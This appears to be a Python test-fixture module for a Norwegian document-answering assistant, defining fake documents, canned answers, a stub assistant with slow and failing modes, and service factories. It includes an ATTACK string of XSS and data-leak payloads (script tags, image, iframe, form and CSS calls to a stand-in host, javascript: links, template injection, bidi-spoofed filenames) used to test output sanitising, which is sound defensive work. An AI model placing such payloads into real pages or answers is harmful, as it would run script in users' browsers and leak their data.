"""An assistant without a model: three documents, a few answers, and ways to be slow or to break."""

import math
import threading
import time
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

from assistant.answers import Answer, Citation, Consulted, Language, Question
from assistant.checks.result import MARKS, Checked, CheckedStatement
from assistant.checks.statements import Piece, cut
from assistant.exchange import AbandonedError, TellStatement, Withdraw
from assistant.settings import LimitSettings, Settings
from ui.feedback_box import FeedbackBox
from ui.permalinks.box import PermalinkBox
from ui.readiness import AssistantProvider
from ui.service import Service
from vectorstore.chunks import (
    Chunk,
    Document,
    DocumentRecord,
    Heading,
    PageStart,
    Repair,
    RetrievedChunk,
)

SENTENCE = "Nei, dette følges opp gjennom andre prosesser."
INTRODUCTION = "Spørsmål og svar om innholdet i reformen.\n\n"
HEADING = "Er reduksjon av markedsmekanismen en del av tillitsreformen?"
TEXT = (
    f"Om innholdet\n\n{INTRODUCTION}{HEADING}\n\n{SENTENCE} Regjeringen har satt ned et utvalg.\n\n"
    "• Det er <script>alert(1)</script> ikke satt noen sluttdato & ingen {{mal}} ${her}.\n"
)
NOTE = Document(
    record=DocumentRecord(
        id="inspirasjonsnotat",
        title="Om tillitsreformen",
        publisher="Kommunal- og distriktsdepartementet",
        date="2022",
        url="https://www.regjeringen.no/no/dokumenter/om-tillitsreformen/id2951643/",
        language="nb",
        standing="guidance",
        obtained="Skannet PDF.",
    ),
    text=TEXT,
    headings=(
        Heading("Om innholdet", 1, 0, len("Om innholdet")),
        Heading(HEADING, 2, TEXT.index(HEADING), TEXT.index(HEADING) + len(HEADING)),
    ),
    repairs=(Repair(TEXT.index("følges"), TEXT.index("følges") + 6, "fglges", "følges"),),
    pages=(PageStart(0, 4), PageStart(TEXT.index(HEADING), 5)),
)
MEMO = Document(
    record=DocumentRecord(
        id="dfo-notat",
        title="Innspill til videre arbeid",
        publisher="DFØ",
        date="2023-05-22",
        url="",
        language="nb",
        standing="advice",
        obtained="Nettutgaven.",
    ),
    text="DFØ anbefaler at virksomhetene kartlegger rapporteringskravene.\n",
)
DOCUMENTS = (NOTE, MEMO)


def _chunk(document: Document, start: int, end: int, section: tuple[str, ...], page: int | None) -> Chunk:
    return Chunk(
        id=f"{document.id}-{start}",
        document_id=document.id,
        text=document.text[start:end],
        start=start,
        end=end,
        section=section,
        page=page,
    )


START = TEXT.index(SENTENCE)
CHUNKS = (
    _chunk(NOTE, START, TEXT.index("\n\n•"), ("Om innholdet", HEADING), 5),
    _chunk(NOTE, TEXT.index("•"), len(TEXT) - 1, ("Om innholdet", HEADING), None),
    _chunk(MEMO, 0, len(MEMO.text) - 1, (), None),
)


def citation(number: int = 1) -> Citation:
    chunk, record = CHUNKS[0], NOTE.record
    return Citation(
        number=number,
        document_id=record.id,
        title=record.title,
        publisher=record.publisher,
        date=record.date,
        standing=record.standing,
        section=chunk.section,
        page=chunk.page,
        quote=SENTENCE,
        start=START,
        end=START + len(SENTENCE),
        context=chunk.text,
        url=record.url,
        viewer_url=f"/documents/{record.id}?start={START}&end={START + len(SENTENCE)}#passage",
    )


def consulted() -> Consulted:
    chunk, record = CHUNKS[2], MEMO.record
    return Consulted(
        document_id=record.id,
        title=record.title,
        publisher=record.publisher,
        date=record.date,
        standing=record.standing,
        section=chunk.section,
        page=chunk.page,
        text=chunk.text,
        url=record.url,
        viewer_url=f"/documents/{record.id}?start=0&end=10#passage",
    )


ANSWERED = Answer(
    answer_id="a1",
    conversation_id="c1",
    status="answered",
    verdict="no",
    language="nb",
    text=f"Nei. Departementets notat sier:\n\n> {SENTENCE} [1]",
    citations=(citation(),),
    consulted=(consulted(),),
    timings_ms={"retrieve": 1.5},
    statements=(f"> {SENTENCE} [1]",),
    suggestions=("Hvem har ansvaret for reformen?", "Hva står det om «Om innholdet»?"),
)
NOT_FOUND = replace(
    ANSWERED,
    status="not_found",
    verdict=None,
    text="Dokumentene sier ikke noe om dette. Spør departementet.",
    citations=(),
    statements=(),
    notices=("Notatet er fra 2022.",),
)

MEMO_SENTENCE = "DFØ anbefaler at virksomhetene kartlegger rapporteringskravene."
TWO_SOURCES = replace(
    ANSWERED,
    verdict=None,
    text=f"Notatet sier dette:\n\n> {SENTENCE} [1]\n\nEt råd fra en etat:\n\n> {MEMO_SENTENCE} [2]",
    citations=(
        citation(),
        replace(
            citation(2),
            document_id=MEMO.id,
            title=MEMO.record.title,
            publisher=MEMO.record.publisher,
            date=MEMO.record.date,
            standing=MEMO.record.standing,
            section=(),
            page=None,
            quote=MEMO_SENTENCE,
            start=0,
            end=len(MEMO_SENTENCE),
            context=MEMO.text,
            url="",
            viewer_url=f"/documents/{MEMO.id}?start=0&end={len(MEMO_SENTENCE)}#passage",
        ),
    ),
    statements=(f"> {SENTENCE} [1]", f"> {MEMO_SENTENCE} [2]"),
    notices=(
        "Kildene sier ikke helt det samme. Se dato og hvem som står bak.",
        "Om tillitsreformen er fra 2022. Undersøk om noe har endret seg siden.",
    ),
)
SLOW_S = 4.0
"""How long an answer that was asked for "sakte" lets wait after its first statement."""

ELSEWHERE = "https://elsewhere.example/?q=secret"
ATTACK = " ".join(
    (
        f"![x]({ELSEWHERE})",
        f"<img src='{ELSEWHERE}'>",
        f"<video poster='{ELSEWHERE}'></video>",
        "<script>document.title='owned'</script>",
        f"<style>body{{background:url({ELSEWHERE})}}</style>",
        f"<form action='{ELSEWHERE}'><input></form>",
        f"<iframe src='{ELSEWHERE}'></iframe>",
        "[klikk](javascript:alert(1)) <b onclick=alert(1)>feit</b>",
        f"<audio src='{ELSEWHERE}' autoplay></audio>",
        f"<svg onload=alert(1)><image href='{ELSEWHERE}'/></svg>",
        f"<style>@import '{ELSEWHERE}';</style>",
        f"<div style=\"background-image:url('{ELSEWHERE}')\">x</div>",
        f"<base href='{ELSEWHERE}'>",
        f"<meta http-equiv='refresh' content='0;url={ELSEWHERE}'>",
        f"<link rel='stylesheet' href='{ELSEWHERE}'>",
        f"<object data='{ELSEWHERE}'></object>",
        f"<{ELSEWHERE}> {ELSEWHERE} www.elsewhere.example",
        f"[spor meg]({ELSEWHERE}&id=1) [x][y]",
        "<a href='data:text/html,<script>alert(1)</script>'>data</a>",
        "&lt;script&gt;document.title='owned'&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
        "\u202egpj.exe\u202c \u2066skjult\u2069",
        "{{constructor.constructor('alert(1)')()}} ${alert(1)} $$\\href{javascript:alert(1)}{x}$$",
    )
)
HOSTILE = replace(
    ANSWERED,
    text=f"{ATTACK}\n\n> {ATTACK} [1]\n\n- {ATTACK}\n\n![x][1]\n\n[1]: {ELSEWHERE}\n",
    citations=(
        replace(citation(), title=ATTACK, quote=ATTACK, context=f"{ATTACK}\n\n{ATTACK}", section=(ATTACK,)),
    ),
    notices=(ATTACK,),
    statements=(ATTACK,),
    suggestions=(ATTACK,),
)
"""As a document might be that somebody has put traps into."""


class FakeAssistant:
    """Answers at once; `hold` makes it wait until `release` is set, `error` makes it raise."""

    def __init__(self, *, hold: bool = False, error: Exception | None = None) -> None:
        self.questions: list[Question] = []
        self.release = threading.Event()
        self.abandoned = threading.Event()
        """Set once a check has seen that nobody waits."""
        self.error = error
        if not hold:
            self.release.set()

    def answer(
        self,
        question: Question,
        *,
        on_status: Callable[[str], None] | None = None,
        on_statement: TellStatement | None = None,
        on_withdrawn: Withdraw | None = None,
        time_left: Callable[[], float] = lambda: math.inf,
    ) -> Answer:
        self.questions.append(question)
        if on_status:
            on_status("Leter i dokumentene …")
        self.release.wait(20)
        if self.error:
            raise self.error
        if "feiler" in question.text:
            raise RuntimeError("as asked for")
        answer = _answer_to(question.text)
        for statement in answer.statements:
            if on_statement:
                on_statement(statement, answer.citations)
            if "sakte" in question.text:
                _wait_while(SLOW_S, time_left)
        if "aldri" in question.text:
            _wait_while(math.inf, time_left)
        return replace(
            answer,
            language=question.language or "nb",
            conversation_id=question.conversation_id or answer.conversation_id,
        )

    def check(
        self,
        draft: str,
        language: Language | None = None,
        *,
        progress: Callable[[int, int], None] | None = None,
        on_statement: Callable[[CheckedStatement], None] | None = None,
        time_left: Callable[[], float] = lambda: math.inf,
    ) -> Checked:
        """Marks in turn, one for each statement; one that says "sakte" lets wait, "aldri" for ever."""
        self.release.wait(20)
        if self.error:
            raise self.error
        pieces = cut(draft)
        claimed = [piece for piece in pieces if piece.left_out is None]
        statements: list[CheckedStatement] = []
        for number, piece in enumerate(claimed):
            if progress:
                progress(number, len(claimed))
            if "sakte" in piece.text or "aldri" in piece.text:
                _wait_while(SLOW_S if "sakte" in piece.text else math.inf, time_left)
            if time_left() <= 0:
                self.abandoned.set()
                raise AbandonedError
            statements.append(_checked(number, piece))
            if on_statement:
                on_statement(statements[-1])
        left_out = tuple(piece for piece in pieces if piece.left_out is not None)
        return Checked(draft, language or "nb", tuple(statements), left_out)

    def search(
        self, query: str, *, k: int = 10, document_ids: tuple[str, ...] | None = None
    ) -> list[RetrievedChunk]:
        wanted = [chunk for chunk in CHUNKS if document_ids is None or chunk.document_id in document_ids]
        return [RetrievedChunk(chunk, 1.0 - 0.1 * rank) for rank, chunk in enumerate(wanted[:k])]

    def documents(self) -> tuple[Document, ...]:
        return DOCUMENTS

    def generation(self) -> str:
        return "g000001"

    def ingested_at(self) -> str:
        return "2026-11-22T16:21:00+00:00"


def _wait_while(seconds: float, time_left: Callable[[], float]) -> None:
    """Wait so long, or until nobody waits any more."""
    until = time.monotonic() + seconds
    while time.monotonic() < until and time_left() > 0:
        time.sleep(0.05)


def _checked(number: int, piece: Piece) -> CheckedStatement:
    mark = MARKS[number % len(MARKS)]
    citations = () if mark == "not_found" else ((HOSTILE if "angrep" in piece.text else ANSWERED).citations)
    return CheckedStatement(piece.start, piece.end, piece.text, mark, "Dokumentet sier noe.", citations)


def _answer_to(text: str) -> Answer:
    if "angrep" in text:
        return HOSTILE
    if "rapportering" in text:
        return TWO_SOURCES
    return NOT_FOUND if "været" in text else ANSWERED


def ready_provider(assistant: FakeAssistant) -> AssistantProvider:
    """A provider that has loaded `assistant`."""
    return AssistantProvider.loaded(assistant)


def failed_provider(error: Exception) -> AssistantProvider:
    """A provider whose assistant cannot be loaded."""

    def load() -> FakeAssistant:
        raise error

    provider = AssistantProvider(load, fingerprint=lambda: None)
    provider.load_now()
    return provider


def make_service(
    assistant: FakeAssistant | None = None, *, data_dir: Path | None = None, **limits: float
) -> Service:
    """A service that is ready; it takes feedback and makes permalinks where there is a `data_dir`."""
    box, permalinks = (FeedbackBox(data_dir), PermalinkBox(data_dir)) if data_dir else (None, None)
    provider = ready_provider(assistant or FakeAssistant())
    return Service(provider, LimitSettings(**limits), box, permalink_box=permalinks)


def make_settings(**sections: object) -> Settings:
    """Settings that no environment and no file takes part in."""
    return Settings.model_construct(**sections)
